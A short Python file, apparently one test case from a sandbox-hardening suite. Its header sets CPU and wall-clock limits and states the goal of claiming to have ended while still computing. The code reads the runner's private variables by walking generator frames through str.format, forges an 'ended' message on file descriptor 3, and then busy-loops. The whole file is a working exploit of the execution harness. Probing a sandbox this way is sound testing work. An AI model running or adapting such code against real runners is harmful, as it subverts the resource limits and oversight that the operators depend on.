"""Say, as a program, that it has ended, and compute on.

evidence: busy understated poison health host
job: program
limits: cpu=5 wall=10
rung 0: held
control: none, the references have no connection
"""

import json
import os
import re
import sys
import time


def frames():  # type: ignore[no-untyped-def]
    """The runner's own variables as text, found through the frame of a running generator."""
    for depth in range(1, 30):
        yield "{0.gi_frame" + depth * ".f_back" + ".f_locals}"


def look():  # type: ignore[no-untyped-def]
    for path in frames():
        try:
            yield path.format(looking)
        except AttributeError:
            return


looking = look()


def attack(arena: dict[str, str]) -> None:
    numbers = re.findall(r"'number': (\d+)", " ".join(looking))
    print(numbers)
    sys.stdout.flush()
    for number in numbers[:1]:
        header = {"number": int(number), "ended": 0, "memory": 1, "stale": False}
        text = json.dumps(header).encode()
        os.write(3, len(text).to_bytes(4, "big") + bytes(4) + text)
    deadline = time.monotonic() + 4
    while time.monotonic() < deadline:
        pass
